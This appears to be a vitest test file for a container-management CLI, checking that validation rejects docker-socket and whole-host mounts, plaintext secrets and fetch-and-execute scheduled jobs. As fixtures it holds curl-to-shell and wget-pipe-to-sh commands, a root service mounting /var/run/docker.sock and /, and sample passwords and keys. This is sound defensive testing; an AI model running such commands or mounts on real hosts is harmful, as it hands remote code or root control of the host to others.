/**
 * The trust boundary (issue 14), offline parts driven through the real CLI (no Docker):
 * dangerous host mounts, secrets given to a new service, and the policy that follows.
 * docs/security.md lists each rule and where it is enforced.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runCli } from '../cli/testutil/cli.js';
import { compileFiles } from '../compiler/compile.js';
import { plan } from '../compiler/planner.js';
import { signPlan } from '../compiler/sign.js';
import { serializeEnvelope } from '../plan/envelope.js';
import { loadOrCreateHostId, loadOrCreateHostKey } from '../plan/keys.js';
import { emptyObserved } from '../compiler/__fixtures__/models.js';
import { createOptions } from '../runtime/drivers/docker.js';
import type { ContainerSpec } from '../plan/types.js';

let dir: string;
const NOW = new Date('2026-11-21T12:00:00Z');

function claude(argv: string[]) {
  return runCli(argv, { env: { CLAUDE_DATA_DIR: join(dir, 'data'), CLAUDE_ROOT: join(dir, 'root'), CLAUDE_STATE_DIR: join(dir, 'state') }, cwd: dir, now: () => NOW });
}

const HEAD = (kind: string) => `apiVersion: claude.os/v1\nkind: ${kind}\nmetadata:\n  name: test\n`;
const SOCK_SERVICE = HEAD('ServiceManifest') + 'spec:\n  services:\n    - name: portainer\n      image: nginx:latest\n      user: "0:0"\n      volumes:\n        - {source: /var/run/docker.sock, target: /var/run/docker.sock}\n        - {source: /, target: /host}\n';

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'claude-trust-'));
  mkdirSync(join(dir, 'state'));
});
afterAll(() => {
  if (dir) rmSync(dir, { recursive: true, force: true });
});

describe('dangerous host mounts', () => {
  it('validate refuses the engine socket and / with file:line:col and the allow-list hint', async () => {
    writeFileSync(join(dir, 'state', 'services.yaml'), SOCK_SERVICE);
    const r = await claude(['validate']);
    expect(r.code).toBe(1);
    expect(r.out + r.err).toMatch(/services\.yaml:11:\d+: error CLA3022: service portainer mounts host path \/var\/run\/docker\.sock/);
    expect(r.out + r.err).toMatch(/services\.yaml:12:\d+: error CLA3022: service portainer mounts host path \/: the whole host file system/);
    expect(r.out + r.err).toContain('spec.safety.allow_host_mounts');
  });

  it('allowed by manifest.yaml: a security step naming the mount, needing an admin signature and a confirmation', async () => {
    const files = {
      'manifest.yaml': HEAD('SystemManifest') + 'spec:\n  safety:\n    allow_host_mounts: [/var/run/docker.sock, /]\n',
      'services.yaml': SOCK_SERVICE,
    };
    const c = compileFiles(files);
    expect(c.diagnostics).toEqual([]);
    const hostId = loadOrCreateHostId(join(dir, 'data'), join(dir, 'root'));
    const key = loadOrCreateHostKey(join(dir, 'data'), hostId);
    const p = plan(c.model!, emptyObserved(), { request: 'add portainer', now: NOW, nonce: '7'.repeat(32), hostId, provenance: { engine: 'user' }, compilerVersion: '0' });
    const create = p.steps.find((s) => s.op === 'container.create')!;
    expect(create.risk).toBe('security');
    expect(create.description).toContain("mounts host path / (the whole host file system), /var/run/docker.sock (a container engine socket (root on the host))");
    writeFileSync(join(dir, 'sock-plan.json'), serializeEnvelope(signPlan(p, key.privateKey)));

    const show = await claude(['show', 'sock-plan.json']);
    expect(show.code).toBe(0);
    // the box itself names the mount, not only the step list
    const box = show.out.slice(0, show.out.indexOf('└'));
    expect(box).toContain('/var/run/docker.sock');
    expect(show.out).toMatch(/P2 admin signature \(mounts host paths \/, \/var\/run\/docker\.sock\): missing/);

    const verify = await claude(['verify', 'sock-plan.json']);
    expect(verify.code).toBe(1);
    expect(verify.out).toMatch(/NOT OK/);
    expect(verify.out).toMatch(/admin/);
  });
});

describe('plaintext secrets and remote code', () => {
  it('validate refuses plaintext secrets (by name and by pattern) and fetch-and-execute commands, with the secret set hint', async () => {
    const state = join(dir, 'state2');
    mkdirSync(state, { recursive: true });
    writeFileSync(
      join(state, 'services.yaml'),
      HEAD('ServiceManifest') +
        'spec:\n  services:\n    - name: app\n      image: nginx:latest\n      environment:\n' +
        '        POSTGRES_PASSWORD: hunter2\n' +
        '        AWS_ACCESS_KEY_ID: AKIAIOSFODNN7EXAMPLE\n' +
        '        DATABASE_URL: postgres://app:S3cr3tPw@db:5432/app\n' +
        '        SAFE_URL: postgres://app:${secrets.db_pw}@db:5432/app\n' +
        '        POSTGRES_HOST_AUTH_METHOD: trust\n' +
        '        API_TOKEN_FILE: /run/secrets/token\n',
    );
    writeFileSync(
      join(state, 'scheduled.yaml'),
      HEAD('ScheduledTasks') +
        'spec:\n  jobs:\n' +
        '    - {name: a, schedule: "0 3 * * *", image: "busybox:1", command: "sh -c \\"$(curl -fsSL https://example.org/x.sh)\\""}\n' +
        '    - {name: b, schedule: "0 3 * * *", image: "busybox:1", command: "wget -qO- https://example.org/i | sh"}\n' +
        '    - {name: c, schedule: "0 3 * * *", image: "busybox:1", command: "mysqldump -uroot -pS3cr3tPw app"}\n' +
        '    - {name: d, schedule: "0 3 * * *", image: "busybox:1", command: "echo curl is fine here"}\n',
    );
    writeFileSync(join(state, 'security.yaml'), HEAD('SecurityConfig') + 'spec:\n  secrets:\n    - {name: db_pw, value: "encrypted:v1:AAAA"}\n');
    const r = await runCli(['validate', '--state-dir', state], { env: { CLAUDE_DATA_DIR: join(dir, 'data') }, cwd: dir, now: () => NOW });
    const text = r.out + r.err;
    expect(r.code).toBe(1);
    const codes = [...text.matchAll(/^(\S+): error (CLA302[34])/gm)].map((m) => `${m[2]}@${m[1]}`);
    expect(codes).toEqual(['CLA3024@scheduled.yaml:7:69', 'CLA3024@scheduled.yaml:8:69', 'CLA3023@scheduled.yaml:9:69', 'CLA3023@services.yaml:10:28', 'CLA3023@services.yaml:11:28', 'CLA3023@services.yaml:12:23']);
    expect(text).toContain('environment POSTGRES_PASSWORD holds a plaintext secret');
    expect(text).toContain('claude secret set postgres_password');
    expect(text).toContain('a URL with a password in it');
    expect(text).toContain('environment AWS_ACCESS_KEY_ID holds a plaintext secret');
    expect(text).toMatch(/job a: command downloads code and runs it \(\$\(curl/);
    expect(text).not.toMatch(/SAFE_URL|HOST_AUTH_METHOD|API_TOKEN_FILE|job d/);
  });

  it('claude show lists every job command', async () => {
    const files = {
      'scheduled.yaml': HEAD('ScheduledTasks') + 'spec:\n  jobs:\n    - {name: backup, schedule: "0 3 * * *", image: "busybox:1", command: ["sh", "-c", "tar czf /out/x.tgz /data"]}\n    - {name: prune, schedule: "0 4 * * *", image: "busybox:1", command: "find /out -mtime +7 -delete"}\n',
    };
    const c = compileFiles(files);
    expect(c.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
    const hostId = loadOrCreateHostId(join(dir, 'data'), join(dir, 'root'));
    const key = loadOrCreateHostKey(join(dir, 'data'), hostId);
    const p = plan(c.model!, emptyObserved(), { request: 'jobs', now: NOW, nonce: '6'.repeat(32), hostId, provenance: { engine: 'user' }, compilerVersion: '0' });
    writeFileSync(join(dir, 'jobs-plan.json'), serializeEnvelope(signPlan(p, key.privateKey)));
    const show = await claude(['show', 'jobs-plan.json']);
    expect(show.out).toContain('job backup (0 3 * * *, in image busybox:1): sh -c "tar czf /out/x.tgz /data"');
    expect(show.out).toContain('job prune (0 4 * * *, in image busybox:1): /bin/sh -c "find /out -mtime +7 -delete"');
  });
});

describe('smaller holes (item 13)', () => {
  it('an env var named __proto__ reaches the plan and the container, not dropped', () => {
    const files = { 'services.yaml': HEAD('ServiceManifest') + 'spec:\n  services:\n    - name: web\n      image: nginx:latest\n      environment:\n        __proto__: polluted\n        A: b\n' };
    const c = compileFiles(files);
    expect(c.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
    const p = plan(c.model!, emptyObserved(), { request: 'proto', now: NOW, nonce: '5'.repeat(32), hostId: 'host-x', provenance: { engine: 'user' }, compilerVersion: '0' });
    const create = p.steps.find((s) => s.op === 'container.create')!;
    const env = (create.params as { env: Record<string, string> }).env;
    expect(Object.keys(env)).toEqual(['A', '__proto__']);
    expect(Object.getPrototypeOf(env)).toBe(Object.prototype);
    // The signed payload carries it, and the container's environment gets it.
    expect(JSON.stringify(p)).toContain('"__proto__":"polluted"');
    const opts = createOptions(create.params as ContainerSpec, env, '/', 'host-x');
    expect(opts.Env).toEqual(['A=b', '__proto__=polluted']);
  });

  it('a job image goes through spec.images.aliases like a service image', async () => {
    const files = {
      'manifest.yaml': HEAD('SystemManifest') + 'spec:\n  images:\n    aliases:\n      tools: busybox:1.36\n',
      'scheduled.yaml': HEAD('ScheduledTasks') + 'spec:\n  jobs:\n    - {name: tidy, schedule: "0 3 * * *", image: tools, command: "true"}\n',
    };
    const c = compileFiles(files);
    expect(c.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
    const p = plan(c.model!, emptyObserved(), { request: 'alias', now: NOW, nonce: '4'.repeat(32), hostId: 'host-x', provenance: { engine: 'user' }, compilerVersion: '0' });
    const sched = p.steps.find((s) => s.op === 'schedule.apply')!;
    expect((sched.params as { jobs: { image?: string }[] }).jobs[0]!.image).toBe('busybox:1.36');
    expect(p.steps.filter((s) => s.op === 'image.ensure').map((s) => (s.params as { ref: string }).ref)).toEqual(['busybox:1.36']);
    expect(sched.dependsOn).toEqual(['image.ensure:busybox:1.36']);
  });
});
